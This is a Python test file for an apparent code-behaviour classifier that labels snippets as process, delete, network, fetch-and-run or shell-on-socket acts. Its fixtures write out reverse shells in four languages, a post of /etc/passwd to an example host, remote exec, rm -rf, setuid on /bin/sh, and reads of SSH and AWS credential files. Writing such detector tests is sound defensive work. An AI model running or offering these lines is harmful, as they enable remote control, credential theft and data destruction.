"""What code in other languages does, as far as its text tells."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.command.acts import ACTS
from spawngate.command.code import Code, look


@pytest.mark.parametrize(
    ("text", "language", "acts"),
    [
        ("print(1)", "python", set()),
        ("import os; os.system('id')", "python", {"code-process"}),
        ("import shutil; shutil.rmtree('/x')", "python", {"code-delete"}),
        ("exec(__import__('base64').b64decode('eA=='))", "python", {"code-decode"}),
        ("exec(urlopen('https://x.example.net').read())", "python", {"code-network", "code-fetch-run"}),
        ("print(dict(os.environ))", "python", {"code-environment"}),
        ("os.environ['HOME']", "python", set()),
        ("console.log(process.env.HOME)", "javascript", set()),
        ("console.log(process.env)", "javascript", {"code-environment"}),
        ("eval(atob('eA=='))", "javascript", {"code-decode"}),
        ("console.log(`a ${b}`)", "javascript", set()),
        ("fork while fork", "perl", {"fork-bomb"}),
        ("os.chmod('/bin/sh', 0o4755)", "python", {"code-write", "setuid"}),
        ("[IO.Directory]::Delete('C:\\x', $true)", "powershell", {"code-delete"}),
        ("import ctypes", "python", {"code-native"}),
    ],
)
def test_acts(text: str, language: str, acts: set[str]) -> None:
    assert look(text, language).acts == acts


def test_a_shell_on_a_socket() -> None:
    texts = [
        "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',1));os.dup2(s.fileno(),0);pty.spawn('sh')",
        "require('net').connect(1,'x.example.net',()=>{require('child_process').spawn('sh')})",
        "use Socket;socket(S,1,1,1);connect(S,x);exec '/bin/sh -i'",
        "$s=fsockopen('203.0.113.7',1);exec('sh <&3');",
    ]
    assert [text for text in texts if "code-shell-socket" not in look(text).acts] == []


def test_addresses_paths_and_commands() -> None:
    text = "requests.post('https://x.example.net/u', data=open('/etc/passwd')); os.system('rm -rf /tmp/a')"
    assert look(text, "python") == Code(
        frozenset({"code-network", "code-send", "code-read", "code-process"}),
        ("https://x.example.net/u",),
        ("/etc/passwd",),
        ("rm -rf /tmp/a",),
    )


def test_a_home_and_what_lies_in_it() -> None:
    assert "~" in look("rmSync(require('os').homedir(),{recursive:true})").paths
    assert look("open(os.path.expanduser('~') + '/.ssh/id_rsa')").paths == ("/.ssh/id_rsa", "~/.ssh/id_rsa")
    assert "~/.aws/credentials" in look("Path.home() / '.aws' / 'credentials'").paths


@given(st.text(max_size=400))
def test_any_text_is_looked_at(text: str) -> None:
    assert look(text).acts <= set(ACTS)
